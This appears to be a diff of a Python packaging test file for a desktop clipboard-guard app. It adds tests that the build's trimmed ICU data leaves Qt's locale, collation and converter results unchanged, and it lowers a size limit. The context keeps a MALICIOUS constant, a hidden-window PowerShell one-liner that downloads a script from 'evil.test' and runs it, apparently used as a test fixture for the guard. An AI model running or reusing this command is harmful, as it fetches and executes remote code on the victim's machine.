@@ -28,6 +28,7 @@ from app.guard.neutralize import NEUTRAL_LINE
 from app.storage import EventStore
 from installer import build as app_build
 from installer import bundle as app_bundle
+from installer import icu_data
 from installer.linux import build_deb
 from tests import proc
 from tests.desktop import desktop, wait_for
@@ -42,10 +43,9 @@ pytestmark = [
 ]
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
-# bytes: a guard against the Linux folder growing unnoticed, NOT the size target. The target is
-# bench/package.py's SIZE_TARGET_MB (120 MB, issue 6), which the folder does not meet since
-# Hyperscan came (126.0 MB measured on a fresh build, its database deflated); that plus 2 MB
-MAX_SIZE = 128_000_000
+# bytes: bench/package.py's SIZE_TARGET_MB (issue 6), held since ICU's data lost what Qt never
+# reads (installer/icu_data.py: 126.0 -> 110.2 MB measured on a fresh build)
+MAX_SIZE = 120_000_000
 MAX_READY_S = 3.0
 
 
@@ -142,6 +142,71 @@ def test_the_build_is_one_folder_within_its_size_target(built: Path) -> None:
     # no Qt part the guard never loads slipped in
     names = {p.name for p in built.rglob("*")}
     assert not {n for n in names if "Qml" in n or "Quick" in n or "WebEngine" in n or "gtk" in n}
+
+
+# -- ICU's data, trimmed by the build (installer/icu_data.py) -------------------------------
+
+
+def _icu_libraries(folder: Path) -> list[Path]:
+    """ICU's three libraries and Qt Core in `folder` (PySide6/Qt/lib, the wheel's or the build's)."""
+    names = ("libicudata.so.*", "libicuuc.so.*", "libicui18n.so.*", "libQt6Core.so.6")
+    found = [p for name in names for p in folder.glob(name) if not p.is_symlink()]
+    assert len(found) == len(names), found
+    return found
+
+
+def _wheel_qt_lib() -> Path:
+    import PySide6
+
+    return Path(PySide6.__file__).parent / "Qt" / "lib"
+
+
+def _icu_answers(preload: list[Path]) -> list[str]:
+    """What Qt answers through ICU (tests/packaging/icu_probe.py), with `preload`ed libraries."""
+    env = dict(os.environ, LD_PRELOAD=" ".join(str(p) for p in preload))
+    result = subprocess.run(
+        [sys.executable, "-m", "tests.packaging.icu_probe"],
+        cwd=Path(__file__).resolve().parents[2], env=env, capture_output=True, text=True,
+        timeout=120,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    return result.stdout.splitlines()
+
+
+def test_the_build_leaves_out_only_icu_data_qt_never_reads(built: Path) -> None:
+    ours = _icu_libraries(built / "_internal" / "PySide6" / "Qt" / "lib")[0]
+    theirs = _icu_libraries(_wheel_qt_lib())[0]
+    built_items = icu_data.read_common(icu_data.read_library(ours.read_bytes()).data).items
+    wheel_items = icu_data.read_common(icu_data.read_library(theirs.read_bytes()).data).items
+    left_out = set(wheel_items) - set(built_items)
+    assert left_out and all(icu_data.unused(name.split("/", 1)[1]) for name in left_out)
+    assert all(wheel_items.get(name) == item for name, item in built_items.items())
+    assert ours.stat().st_size < theirs.stat().st_size - 15_000_000
+
+
+def test_qt_answers_the_same_with_the_builds_icu_data(built: Path) -> None:
+    """Case mapping, collation, converters and zone names for 13 locales, all 600-odd zones
+    and every converter: the build's ICU and Qt Core give the wheel's answers, line for line."""
+    ours = _icu_libraries(built / "_internal" / "PySide6" / "Qt" / "lib")
+    wheel = _icu_answers([])
+    answers = _icu_answers(ours)
+    assert str(ours[0]) in answers[0] and str(ours[-1]) in answers[0], answers[0]
+    assert str(built) not in wheel[0], wheel[0]
+    differing = [(a, b) for a, b in zip(wheel[1:], answers[1:], strict=True) if a != b]
+    assert not differing, differing[:5]
+    # ICU's answers, not empty ones both sides share
+    text = "\n".join(answers)
+    assert "de zone Europe/Berlin Mitteleuropäische Normalzeit|" in text
+    assert "ja zone Asia/Tokyo 日本標準時|" in text
+    assert "tr case İSTANBUL İI Iİ" in text and "de case ISTANBUL İI II SS" in text
+    zh_order = next(line for line in answers if line.startswith("zh collation")).split()
+    de_order = next(line for line in answers if line.startswith("de collation")).split()
+    assert zh_order.index("北京") < zh_order.index("上海")  # pinyin: běi before shàng
+    assert de_order.index("Äpfel") < de_order.index("Ärger") < de_order.index("cadde")
+    converters = {line.split()[1]: line for line in answers if line.startswith("converter ")}
+    assert len(converters) > 200
+    assert "東京 日本語" in converters["Shift_JIS"] and "Привет" in converters["KOI8-R"]
+    assert "中文" in converters["GBK"] and "العربية" in converters["windows-1256"]
 
 
 def test_the_build_guards_the_clipboard_on_a_real_x_desktop(built: Path, tmp_path: Path) -> None:
